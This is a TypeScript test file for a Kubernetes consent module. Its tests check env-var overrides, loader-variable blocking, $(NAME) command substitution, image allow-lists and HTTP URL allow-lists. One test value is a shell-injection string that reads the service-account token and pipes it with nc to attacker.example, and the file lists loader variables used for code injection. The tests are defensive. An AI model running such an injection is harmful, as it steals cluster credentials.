import type { V1EnvVar, V1ObjectMeta } from '@kubernetes/client-node';
import { describe, expect, it } from 'vitest';

import {
  ALLOW_COMMAND_ANNOTATION,
  ALLOW_ENV_ANNOTATION,
  assertCommandConsent,
  assertEnvConsent,
  assertFallbackImage,
  assertHttpCallAllowed,
  assertRunnable,
  CommandNotAllowedError,
  commandParams,
  EnvNotAllowedError,
  FallbackNotAllowedError,
  type FallbackPolicy,
  HTTP_CALL_KEY_SECRET_PREFIX,
  HttpCallNotAllowedError,
  isLoaderVariable,
  notRunnable,
  parseAllowedUrls,
  parseFallbackImages,
  RUNNABLE_ANNOTATION,
  SourceNotRunnableError,
} from '../../src/core/consent.js';

const env: V1EnvVar[] = [
  { name: 'BATCH_DATE', value: '2026-11-23' },
  { name: 'EMPTY' },
  { name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } },
  { name: 'NODE_NAME', valueFrom: { fieldRef: { fieldPath: 'spec.nodeName' } } },
  { name: 'PATH', value: '/usr/local/bin:/usr/bin:/bin' },
];
const meta = (allowEnv?: string): V1ObjectMeta => ({ name: 'nightly', ...(allowEnv === undefined ? {} : { annotations: { [ALLOW_ENV_ANNOTATION]: allowEnv } }) });
const check = (overrides: Record<string, string>, allowEnv?: string) => () => {
  assertEnvConsent('Job', 'nightly', meta(allowEnv), { env }, overrides);
};

/** Every loader or interpreter variable the issue names, and a few more of each family. */
const LOADER_CASES = [
  'LD_PRELOAD',
  'LD_LIBRARY_PATH',
  'LD_AUDIT',
  'NODE_OPTIONS',
  'NODE_PATH',
  'BASH_ENV',
  'ENV',
  'JAVA_TOOL_OPTIONS',
  '_JAVA_OPTIONS',
  'JDK_JAVA_OPTIONS',
  'PERL5OPT',
  'PERL5LIB',
  'PYTHONSTARTUP',
  'PYTHONPATH',
  'PYTHONHOME',
  'PYTHONWARNINGS',
  'RUBYOPT',
  'RUBYLIB',
  'PATH',
  'GLIBC_TUNABLES',
  'BASH_FUNC_echo%%',
  'GIT_SSH_COMMAND',
  'DOTNET_STARTUP_HOOKS',
  'CORECLR_PROFILER_PATH',
  'OPENSSL_CONF',
  'HTTPS_PROXY',
  'https_proxy',
  'NODE_EXTRA_CA_CERTS',
  'SSL_CERT_FILE',
];

describe('assertEnvConsent', () => {
  it.each<{ name: string; overrides: Record<string, string> }>([
    { name: 'a plain-valued declared name', overrides: { BATCH_DATE: '2026-12-01' } },
    { name: 'a declared name without a value', overrides: { EMPTY: 'now set' } },
    { name: 'no overrides at all', overrides: {} },
  ])('accepts $name without any annotation', ({ overrides }) => {
    expect(check(overrides)).not.toThrow();
  });

  it.each<{ name: string; overrides: Record<string, string>; says: string }>([
    { name: 'a new name', overrides: { DB_HOST: 'evil.example' }, says: '"DB_HOST" is not declared by Job "nightly"' },
    { name: 'a valueFrom (Secret) replacement', overrides: { DB_PASSWORD: 'x' }, says: '"DB_PASSWORD" takes its value from a Secret' },
    { name: 'a valueFrom (field) replacement', overrides: { NODE_NAME: 'x' }, says: '"NODE_NAME" takes its value from a Secret, ConfigMap or field' },
  ])('refuses $name without consent, with a 400 naming the variable and the annotation', ({ overrides, says }) => {
    const error = (() => {
      try {
        check(overrides)();
      } catch (err) {
        return err;
      }
      return undefined;
    })();
    expect(error).toBeInstanceOf(EnvNotAllowedError);
    expect((error as EnvNotAllowedError).status).toBe(400);
    expect((error as EnvNotAllowedError).message).toContain(says);
    expect((error as EnvNotAllowedError).message).toContain(ALLOW_ENV_ANNOTATION);
  });

  it.each<{ name: string; overrides: Record<string, string>; allowEnv: string }>([
    { name: 'a new name listed by name', overrides: { DB_HOST: 'db2' }, allowEnv: 'DB_HOST' },
    { name: 'a valueFrom replacement listed by name', overrides: { DB_PASSWORD: 'x' }, allowEnv: 'OTHER, DB_PASSWORD' },
    { name: 'a new name under *', overrides: { DB_HOST: 'db2' }, allowEnv: '*' },
    { name: 'a valueFrom replacement under *', overrides: { DB_PASSWORD: 'x' }, allowEnv: '*' },
  ])('accepts $name', ({ overrides, allowEnv }) => {
    expect(check(overrides, allowEnv)).not.toThrow();
  });

  it.each(LOADER_CASES.map((name) => ({ name })))('refuses the loader variable $name without, and with "*", but not when named', ({ name }) => {
    expect(check({ [name]: 'x' })).toThrow(EnvNotAllowedError);
    expect(check({ [name]: 'x' }, '*')).toThrow(`"${name}" changes what code the run loads`);
    expect(check({ [name]: 'x' }, '*')).toThrow('"*" does not cover it');
    expect(check({ [name]: 'x' }, `*,${name}`)).not.toThrow();
  });

  it('refuses a declared plain-valued loader variable (PATH) unless named', () => {
    expect(check({ PATH: '/tmp/evil:/usr/bin' })).toThrow('"PATH" changes what code the run loads');
    expect(check({ PATH: '/opt/tool/bin:/usr/bin' }, 'PATH')).not.toThrow();
  });

  it('names every refused variable in one answer', () => {
    expect(check({ DB_HOST: 'x', LD_PRELOAD: '/tmp/x.so', BATCH_DATE: 'ok' })).toThrow(/"DB_HOST".*"LD_PRELOAD"/);
  });
});

/**
 * The kubelet substitutes `$(NAME)` in command and args with the container's variables before any shell sees
 * them (kubernetes/kubernetes pkg/kubelet/container/helpers.go `ExpandContainerCommandAndArgs`, with the grammar
 * of third_party/forked/golang/expansion/expand.go, ported and tested in test/core/expansion.test.ts). On the
 * documented pattern `sh -c "echo report for $(REPORT_DATE)"`, a value for REPORT_DATE is shell code.
 */
describe('assertEnvConsent with $(NAME) in the command or args', () => {
  const reportJob = {
    command: ['sh', '-c', 'echo report for $(REPORT_DATE) in $$(ESCAPED)'],
    args: ['--region=$(REGION_LINE)'],
    env: [
      { name: 'REPORT_DATE', value: '2026-11-23' },
      { name: 'ESCAPED', value: 'x' },
      { name: 'REGION', value: 'west' },
      { name: 'REGION_LINE', value: 'region $(REGION)' },
      { name: 'QUIET', value: 'true' },
    ],
  };
  const attack = 'x; cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc attacker.example 80';
  const run = (overrides: Record<string, string>, allowEnv?: string) => () => {
    assertEnvConsent('Job', 'report', meta(allowEnv), reportJob, overrides);
  };

  it.each([
    { name: 'a declared plain name the command substitutes', variable: 'REPORT_DATE' },
    { name: 'a name an args value substitutes', variable: 'REGION_LINE' },
    { name: 'a name reached through a plain value the args substitute', variable: 'REGION' },
  ])('refuses $name, without and under "*", with a 400 that says why', ({ variable }) => {
    for (const allowEnv of [undefined, '*', 'OTHER,*']) {
      expect(run({ [variable]: attack }, allowEnv)).toThrow(EnvNotAllowedError);
      expect(run({ [variable]: attack }, allowEnv)).toThrow(`"${variable}" is substituted into the command or args of Job "report" as $(${variable})`);
      expect(run({ [variable]: attack }, allowEnv)).toThrow('"*" does not cover it');
    }
  });

  it('accepts it when the annotation names it', () => {
    expect(run({ REPORT_DATE: '2026-12-01' }, 'REPORT_DATE')).not.toThrow();
    expect(run({ REPORT_DATE: '2026-12-01', REGION: 'east' }, '*,REGION,REPORT_DATE')).not.toThrow();
  });

  it('an escaped $$(NAME) is no reference: that name stays a plain parameter', () => {
    expect(run({ ESCAPED: attack })).not.toThrow();
    expect(run({ QUIET: 'false' })).not.toThrow();
  });

  it('a command the caller writes itself (not passed as the source\'s) refers to nothing of the source', () => {
    expect(() => {
      assertEnvConsent('Job', 'report', meta(), { env: reportJob.env }, { REPORT_DATE: 'x' });
    }).not.toThrow();
  });

  it('applies to any container it is given: the kubelet expands a container\'s own env into its own command', () => {
    const sidecar = { command: ['sh', '-c', 'upload $(TARGET)'], env: [{ name: 'TARGET', value: 'a' }] };
    expect(() => {
      assertEnvConsent('CronJob', 'report', meta(), sidecar, { TARGET: attack });
    }).toThrow('"TARGET" is substituted into the command or args of CronJob "report"');
  });

  it('commandParams lists the substituted names the annotation does not name', () => {
    expect(commandParams(meta(), reportJob)).toEqual(['REGION', 'REGION_LINE', 'REPORT_DATE']);
    expect(commandParams(meta('*,REGION'), reportJob)).toEqual(['REGION_LINE', 'REPORT_DATE']);
    expect(commandParams(meta(), { env: reportJob.env })).toEqual([]);
  });
});

describe('isLoaderVariable', () => {
  it.each([
    { name: 'BATCH_DATE', expected: false },
    { name: 'NODE_ENV', expected: false },
    { name: 'PYTHONUNBUFFERED', expected: false },
    { name: 'LD_BIND_NOW', expected: true },
    { name: 'ld_preload', expected: true },
    { name: 'Path', expected: true },
  ])('$name: $expected', ({ name, expected }) => {
    expect(isLoaderVariable(name)).toBe(expected);
  });
});

describe('assertRunnable / notRunnable', () => {
  const annotated = (value?: string): V1ObjectMeta => (value === undefined ? {} : { annotations: { [RUNNABLE_ANNOTATION]: value } });
  it.each([
    { name: 'no annotation, opt-out mode', value: undefined, optIn: false, runnable: true },
    { name: 'runnable "false", opt-out mode', value: 'false', optIn: false, runnable: false },
    { name: 'runnable "true", opt-out mode', value: 'true', optIn: false, runnable: true },
    { name: 'no annotation, opt-in mode', value: undefined, optIn: true, runnable: false },
    { name: 'runnable "yes", opt-in mode', value: 'yes', optIn: true, runnable: false },
    { name: 'runnable "true", opt-in mode', value: 'true', optIn: true, runnable: true },
    { name: 'runnable "false", opt-in mode', value: 'false', optIn: true, runnable: false },
  ])('$name: runnable $runnable', ({ value, optIn, runnable }) => {
    expect(notRunnable('CronJob', 'report', annotated(value), optIn) === undefined).toBe(runnable);
    const run = () => {
      assertRunnable('CronJob', 'report', annotated(value), optIn);
    };
    if (runnable) expect(run).not.toThrow();
    else {
      expect(run).toThrow(SourceNotRunnableError);
      expect(run).toThrow(RUNNABLE_ANNOTATION);
    }
  });

  it('answers 403 naming the annotation', () => {
    expect(new SourceNotRunnableError('x').status).toBe(403);
    expect(notRunnable('Job', 'nightly', annotated('false'), false)).toContain(`${RUNNABLE_ANNOTATION}: "false"`);
  });
});

describe('parseFallbackImages', () => {
  it('reads prefixes, repositories and digest requirements, separated by commas or spaces', () => {
    expect(parseFallbackImages(' myacr.azurecr.io/tools/, docker.io/library/busybox@sha256\nlocalhost:5000/x ')).toEqual([
      { prefix: 'myacr.azurecr.io/tools/', digest: false },
      { prefix: 'docker.io/library/busybox', digest: true },
      { prefix: 'localhost:5000/x', digest: false },
    ]);
    expect(parseFallbackImages('')).toEqual([]);
  });

  it.each(['busybox:latest', 'https://registry/x', 'Upper/Case', 'a b@x'])('refuses the entry %s', (entry) => {
    expect(() => parseFallbackImages(entry)).toThrow('is not an image prefix');
  });
});

describe('assertFallbackImage', () => {
  const DIGEST = `sha256:${'a'.repeat(64)}`;
  const policy = (images: string): FallbackPolicy => ({
    images: parseFallbackImages(images),
    resources: { requests: { cpu: '100m', memory: '128Mi' }, limits: { cpu: '1', memory: '512Mi' } },
    runAsUser: 65532,
  });

  it('refuses every image while fallback runs are off, saying how to turn them on', () => {
    expect(() => {
      assertFallbackImage(policy(''), 'docker.io/library/busybox:1.36');
    }).toThrow(FallbackNotAllowedError);
    expect(() => {
      assertFallbackImage(policy(''), 'docker.io/library/busybox:1.36');
    }).toThrow('FALLBACK_IMAGES');
  });

  it.each([
    { name: 'a repository under an allowed path', rules: 'myacr.azurecr.io/tools/', image: 'myacr.azurecr.io/tools/curl:8', allowed: true },
    { name: 'a deeper repository under an allowed path', rules: 'myacr.azurecr.io/tools/', image: 'myacr.azurecr.io/tools/a/b@' + DIGEST, allowed: true },
    { name: 'the path itself', rules: 'myacr.azurecr.io/tools/', image: 'myacr.azurecr.io/tools/', allowed: false },
    { name: 'a look-alike registry', rules: 'myacr.azurecr.io/tools/', image: 'myacr.azurecr.io.evil.example/tools/curl', allowed: false },
    { name: 'another path', rules: 'myacr.azurecr.io/tools/', image: 'myacr.azurecr.io/other/curl', allowed: false },
    { name: 'an allowed repository with a tag', rules: 'docker.io/library/busybox', image: 'docker.io/library/busybox:1.36', allowed: true },
    { name: 'a repository that only starts like an allowed one', rules: 'docker.io/library/busybox', image: 'docker.io/library/busybox-evil:1', allowed: false },
    { name: 'a short name for an allowed full name', rules: 'docker.io/library/busybox', image: 'busybox:1.36', allowed: false },
    { name: 'a digest where one is required', rules: 'docker.io/library/busybox@sha256', image: `docker.io/library/busybox@${DIGEST}`, allowed: true },
    { name: 'a tag and digest where one is required', rules: 'docker.io/library/busybox@sha256', image: `docker.io/library/busybox:1.36@${DIGEST}`, allowed: true },
    { name: 'a tag where a digest is required', rules: 'docker.io/library/busybox@sha256', image: 'docker.io/library/busybox:1.36', allowed: false },
    { name: 'a malformed digest', rules: 'docker.io/library/busybox@sha256', image: 'docker.io/library/busybox@sha256:abc', allowed: false },
    { name: 'a registry with a port', rules: 'localhost:5000/', image: 'localhost:5000/tool:1', allowed: true },
  ])('$name: allowed $allowed', ({ rules, image, allowed }) => {
    const run = () => {
      assertFallbackImage(policy(rules), image);
    };
    if (allowed) expect(run).not.toThrow();
    else expect(run).toThrow(`image "${image}" is not one this app may run`);
  });
});

describe('assertCommandConsent', () => {
  it.each<{ name: string; annotations: Record<string, string> | undefined; fields: string[]; allowed: boolean }>([
    { name: 'no override, no annotation', annotations: undefined, fields: [], allowed: true },
    { name: 'a command without the annotation', annotations: undefined, fields: ['command'], allowed: false },
    { name: 'args with the annotation not "true"', annotations: { [ALLOW_COMMAND_ANNOTATION]: 'yes' }, fields: ['args'], allowed: false },
    { name: 'command and args with the annotation', annotations: { [ALLOW_COMMAND_ANNOTATION]: 'true' }, fields: ['command', 'args'], allowed: true },
  ])('$name: allowed $allowed', ({ annotations, fields, allowed }) => {
    const check = () => {
      assertCommandConsent('Deployment', 'web', annotations ? { annotations } : {}, fields);
    };
    if (allowed) expect(check).not.toThrow();
    else expect(check).toThrow(CommandNotAllowedError);
  });
});

describe('parseAllowedUrls / assertHttpCallAllowed', () => {
  const rules = parseAllowedUrls('https://app.example/api/, http://reports.example:8080/run');

  it('reads origins and path prefixes, refusing what is not an absolute http(s) URL prefix', () => {
    expect(rules).toEqual([
      { origin: 'https://app.example', path: '/api/' },
      { origin: 'http://reports.example:8080', path: '/run' },
    ]);
    expect(parseAllowedUrls('')).toEqual([]);
    for (const bad of ['app.example/api/', 'ftp://app.example/', 'https://u@app.example/', 'https://app.example/?a=1', 'https://app.example/#x']) {
      expect(() => parseAllowedUrls(bad), bad).toThrow(/is not a URL prefix/);
    }
  });

  it.each([
    { name: 'under a prefix ending in /', url: 'https://app.example/api/report?day=1', allowed: 'https://app.example/api/report?day=1' },
    { name: 'a whole path', url: 'http://reports.example:8080/run', allowed: 'http://reports.example:8080/run' },
    { name: 'below a whole path', url: 'http://reports.example:8080/run/daily', allowed: 'http://reports.example:8080/run/daily' },
    { name: 'the default port written out', url: 'https://app.example:443/api/a', allowed: 'https://app.example/api/a' },
    { name: 'a host in capitals', url: 'https://APP.example/api/a', allowed: 'https://app.example/api/a' },
    { name: 'dot segments that stay inside', url: 'https://app.example/api/x/../a', allowed: 'https://app.example/api/a' },
    { name: 'a path only starting like a whole path', url: 'http://reports.example:8080/runaway', allowed: undefined },
    { name: 'a longer host', url: 'https://app.example.evil.example/api/a', allowed: undefined },
    { name: 'a user', url: 'https://app.example@evil.example/api/a', allowed: undefined },
    { name: 'backslashes out of the prefix', url: 'https://app.example/api/..\\admin', allowed: undefined },
  ])('$name: $allowed', ({ url, allowed }) => {
    const check = () => assertHttpCallAllowed(rules, { url });
    if (allowed === undefined) expect(check).toThrow(HttpCallNotAllowedError);
    else expect(check()).toBe(allowed);
  });

  it.each([
    { name: 'a Secret named for httpCall keys', secret: `${HTTP_CALL_KEY_SECRET_PREFIX}report`, allowed: true },
    { name: 'the prefix alone', secret: HTTP_CALL_KEY_SECRET_PREFIX, allowed: false },
    { name: 'any other Secret', secret: 'db-password', allowed: false },
  ])('keySecretRef naming $name: allowed $allowed', ({ secret, allowed }) => {
    const check = () => assertHttpCallAllowed(rules, { url: 'https://app.example/api/a', keySecretRef: { name: secret } });
    if (allowed) expect(check).not.toThrow();
    else expect(check).toThrow(/is not one made for httpCall keys/);
  });

  it('is off without rules, saying which setting turns it on', () => {
    expect(() => assertHttpCallAllowed([], { url: 'https://app.example/api/a' })).toThrow(/HTTP_CALL_ALLOWED_URLS/);
  });
});
